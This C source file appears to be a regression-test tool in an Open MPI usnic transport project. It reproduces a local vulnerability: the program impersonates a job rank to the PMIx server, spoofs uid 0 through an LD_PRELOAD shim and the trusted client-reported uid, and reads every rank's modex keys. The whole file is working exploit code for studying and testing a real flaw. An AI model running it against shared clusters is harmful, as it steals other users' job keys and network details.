/*
 * Copyright (c) 2026 The usnic BTL authors.  All rights reserved.
 *
 * pmix_thief: a local user of another uid reads a running job's usnic
 * modex through the job's own PMIx server (issue 27).  It connects to the
 * server as a rank of the job (PMIx_Init as a client, with the
 * environment a launched rank gets) and PMIx_Gets every rank's usnic
 * entry.  What makes that possible:
 *   - the namespace is predictable: Open MPI 4.1's is a number made of a
 *     hash of the host name and mpirun's pid (both public); the test
 *     passes it on the command line (it reads the job id the victim logs,
 *     the same number) rather than recompute the hash;
 *   - the server's TCP port is in the world-readable /proc/net/tcp: a
 *     listening socket of uid 0 on 127.0.0.1.  Without PORT the thief
 *     tries each such socket in turn (in the test's network namespace only
 *     the job's are there);
 *   - PMIx's "native" security over TCP takes the uid and gid the client
 *     reports (no SO_PEERCRED on TCP): run it under LD_PRELOAD=uid_shim.so
 *     (getuid & co. return 0) and the server takes it for the job's root;
 *   - with the server's hash store (PMIX_MCA_gds=hash) modex data is
 *     served over that socket (the shared-memory store's files would be
 *     the job owner's, unreadable to another user).
 *
 *   pmix_thief NAMESPACE NPROCS [RANK [PORT [KEY]]]
 *       NAMESPACE  the job's PMIx namespace (4.1: the job id in decimal;
 *                  5.0: "prterun-HOST-PID@1")
 *       NPROCS     ranks to read, 0..NPROCS-1
 *       RANK       the rank to claim to be (default 1)
 *       PORT       the server's TCP port on 127.0.0.1 (default, or 0:
 *                  search /proc/net/tcp as above)
 *       KEY        the modex key: mca_base_component_to_string of the
 *                  component, "btl.usnic.<major>.<minor>" of the Open MPI
 *                  the job runs (default: "btl.usnic.4.1", then
 *                  "btl.usnic.5.0"; give it on 5.0, whose server holds a
 *                  Get of a key nobody put until its timeout)
 *
 * Prints one line per module of every rank read:
 *   entry rank=R module=M ipv4=A.B.C.D ports=P0/P1 protection=N mac_algs=N
 *         node_id=HEX recv_key=HEX
 * (recv_key: the 32 bytes at that field's offset, whatever their present
 * name: the old receive key, or an X25519 public key), then
 *   pmix_thief: read E entries of R of NPROCS ranks (key K, port P)
 * The thief's own PMIx client uses the hash store unless PMIX_MCA_gds
 * names another (measured on Open MPI 4.1: against a server on its
 * default store, ds21, it connects but every Get is NOT-FOUND, also with
 * PMIX_MCA_gds=ds21,ds12,hash: the data sits in the job owner's 0700
 * session directory).
 * Exits 0 if it read every rank, 1 otherwise.  It stays connected until
 * stdin closes or STAY seconds (environment, default 0) pass, so that its
 * leaving does not look like a rank's death while the job runs.
 * Build: cc pmix_thief.c $(pkg-config --cflags --libs pmix) (libpmix-dev).
 * Connects only to 127.0.0.1.
 */
#include <errno.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <pmix.h>

#include "../../btl_usnic_charge.h"

/* The layout of opal_btl_usnic_modex_t (btl_usnic.h), restated so that
 * this program needs no Open MPI headers; the size check below catches a
 * change. */
typedef struct __attribute__((packed)) {
    uint32_t proto_version;
    uint32_t ipv4;
    uint32_t netmask;
    uint16_t ports[2];
    uint32_t mtu, tiny_mtu, isn, window, link_speed_mbps;
    char provider[32];
    char if_name[16];
    uint16_t probe_port;
    uint8_t protection;
    uint8_t mac_algs;
    uint8_t recv_key[32]; /* dh_public since issue 27 (protocol 9): same offset, same size */
    uint8_t node_id[16];
    uint8_t agent_key[32];
    uint8_t secret_id[16]; /* protocol 9: the launcher's secret's public name */
    uint8_t wire, wire_flags;
    uint16_t reserved;
    uint64_t rx_capacity;
    opal_btl_usnic_charge_t rx_charge;
} modex_t;

static void hex(const uint8_t *p, size_t n)
{
    for (size_t i = 0; i < n; ++i) {
        printf("%02x", p[i]);
    }
}

/* The server's namespace, for the URI: rank 0 of the launcher's own job
 * (ORTE: the job family's job 0; PRRTE: "...@0") */
static void server_nspace(const char *ns, char *out, size_t n)
{
    const char *at = strrchr(ns, '@');
    if (NULL != at) {
        snprintf(out, n, "%.*s@0", (int) (at - ns), ns);
    } else {
        snprintf(out, n, "%lu", strtoul(ns, NULL, 10) & ~0xfffful);
    }
}

/* The theft itself, in a child: returns the exit status to report */
static int steal(const char *ns, int nprocs, int rank, int port, const char *key_arg)
{
    char srv[PMIX_MAX_NSLEN + 1], uri[512], rank_s[16];
    server_nspace(ns, srv, sizeof(srv));
    snprintf(uri, sizeof(uri), "%s.0;tcp4://127.0.0.1:%d", srv, port);
    snprintf(rank_s, sizeof(rank_s), "%d", rank);
    /* what the launcher puts in a rank's environment */
    static const char *uri_vars[] = {"PMIX_SERVER_URI41", "PMIX_SERVER_URI4", "PMIX_SERVER_URI3",
                                     "PMIX_SERVER_URI21", "PMIX_SERVER_URI2"};
    for (size_t i = 0; i < sizeof(uri_vars) / sizeof(uri_vars[0]); ++i) {
        setenv(uri_vars[i], uri, 1);
    }
    setenv("PMIX_NAMESPACE", ns, 1);
    setenv("PMIX_RANK", rank_s, 1);
    setenv("PMIX_SECURITY_MODE", "native", 1);
    /* the hash store, unless told otherwise (PMIX_MCA_gds in the environment) */
    setenv("PMIX_MCA_gds", "hash", 0);
    setenv("PMIX_GDS_MODULE", getenv("PMIX_MCA_gds"), 1);
    setenv("PMIX_BFROP_BUFFER_TYPE", "PMIX_BFROP_BUFFER_NON_DESC", 1);

    pmix_proc_t me;
    pmix_status_t rc = PMIx_Init(&me, NULL, 0);
    if (PMIX_SUCCESS != rc) {
        fprintf(stderr, "pmix_thief: port %d: PMIx_Init as %s.%d: %s\n", port, ns, rank, PMIx_Error_string(rc));
        return 3;
    }
    fprintf(stderr, "pmix_thief: port %d: connected as %s.%u\n", port, me.nspace, me.rank);
    const char *keys[] = {key_arg, NULL != key_arg ? NULL : "btl.usnic.4.1", NULL != key_arg ? NULL : "btl.usnic.5.0"};
    int got_ranks = 0, entries = 0;
    const char *used = "none";
    for (int r = 0; r < nprocs; ++r) {
        pmix_proc_t p;
        PMIX_LOAD_PROCID(&p, ns, (pmix_rank_t) r);
        pmix_value_t *v = NULL;
        rc = PMIX_ERR_NOT_FOUND;
        for (size_t k = 0; k < 3 && PMIX_SUCCESS != rc; ++k) {
            if (NULL != keys[k]) {
                pmix_info_t info;
                int timeout = 5;
                PMIX_INFO_LOAD(&info, PMIX_TIMEOUT, &timeout, PMIX_INT);
                rc = PMIx_Get(&p, keys[k], &info, 1, &v);
                PMIX_INFO_DESTRUCT(&info);
                if (PMIX_SUCCESS == rc) {
                    used = keys[k];
                }
            }
        }
        if (PMIX_SUCCESS != rc || NULL == v || PMIX_BYTE_OBJECT != v->type) {
            fprintf(stderr, "pmix_thief: rank %d: PMIx_Get: %s\n", r,
                    PMIX_SUCCESS != rc ? PMIx_Error_string(rc) : "not a byte object");
            continue;
        }
        size_t size = v->data.bo.size;
        if (0 == size || 0 != size % sizeof(modex_t)) {
            fprintf(stderr, "pmix_thief: rank %d: %zu bytes, not a multiple of the %zu of an entry: layout changed?\n",
                    r, size, sizeof(modex_t));
            continue;
        }
        ++got_ranks;
        for (size_t m = 0; m < size / sizeof(modex_t); ++m) {
            modex_t e;
            memcpy(&e, v->data.bo.bytes + m * sizeof(modex_t), sizeof(e));
            uint8_t *a = (uint8_t *) &e.ipv4;
            printf("entry rank=%d module=%zu ipv4=%u.%u.%u.%u ports=%u/%u protection=%u mac_algs=%u node_id=", r, m,
                   a[0], a[1], a[2], a[3], e.ports[0], e.ports[1], e.protection, e.mac_algs);
            hex(e.node_id, sizeof(e.node_id));
            printf(" recv_key=");
            hex(e.recv_key, sizeof(e.recv_key));
            printf("\n");
            ++entries;
        }
        PMIX_VALUE_RELEASE(v);
    }
    printf("pmix_thief: read %d entries of %d of %d ranks (key %s, port %d)\n", entries, got_ranks, nprocs, used,
           port);
    fflush(stdout);
    alarm(0); /* the try's deadline (main) is met */
    /* Stay: a client that vanishes unannounced looks like a dead rank to
     * the launcher, and PMIx_Finalize would tell it this rank finished */
    double stay = NULL != getenv("STAY") ? atof(getenv("STAY")) : 0;
    struct pollfd in = {.fd = STDIN_FILENO, .events = POLLIN};
    char c;
    while (stay > 0 && poll(&in, 1, 100) >= 0 && !(in.revents && read(STDIN_FILENO, &c, 1) <= 0)) {
        stay -= 0.1;
    }
    return got_ranks == nprocs ? 0 : 1;
}

/* Listening TCP sockets of uid 0 on 127.0.0.1, from /proc/net/tcp */
static int candidate_ports(int *ports, int max)
{
    FILE *f = fopen("/proc/net/tcp", "r");
    char line[512];
    int n = 0;
    if (NULL == f) {
        perror("pmix_thief: /proc/net/tcp");
        return 0;
    }
    while (n < max && NULL != fgets(line, sizeof(line), f)) {
        unsigned addr, port, state, uid;
        if (4 == sscanf(line, " %*d: %8X:%4X %*8X:%*4X %2X %*s %*s %*s %u", &addr, &port, &state, &uid) &&
            0x0A == state && 0 == uid && 0x0100007Fu == addr) {
            ports[n++] = (int) port;
        }
    }
    fclose(f);
    return n;
}

int main(int argc, char **argv)
{
    if (argc < 3) {
        fprintf(stderr, "usage: %s NAMESPACE NPROCS [RANK [PORT [KEY]]]\n", argv[0]);
        return 2;
    }
    const char *ns = argv[1];
    int nprocs = atoi(argv[2]), rank = argc > 3 ? atoi(argv[3]) : 1;
    int port = argc > 4 ? atoi(argv[4]) : 0;
    const char *key = argc > 5 ? argv[5] : NULL;
    /* the kernel's ids, past uid_shim: who the thief really is */
    fprintf(stderr, "pmix_thief: uid %ld, getuid() says %d\n", (long) syscall(SYS_getuid), (int) getuid());
    if (port > 0) {
        return steal(ns, nprocs, rank, port, key);
    }
    int ports[64], n = candidate_ports(ports, 64);
    fprintf(stderr, "pmix_thief: %d listening sockets of uid 0 on 127.0.0.1\n", n);
    /* each try in a child with a deadline: a port that is not PMIx's may
     * take the handshake and never answer */
    for (int i = 0; i < n; ++i) {
        fflush(NULL);
        pid_t pid = fork();
        if (0 == pid) {
            alarm(20);
            _exit(steal(ns, nprocs, rank, ports[i], key));
        }
        int status = 0;
        if (pid > 0 && pid == waitpid(pid, &status, 0) && WIFEXITED(status) && WEXITSTATUS(status) < 2) {
            return WEXITSTATUS(status);
        }
    }
    fprintf(stderr, "pmix_thief: no PMIx server answered as one of the job's\n");
    return 1;
}
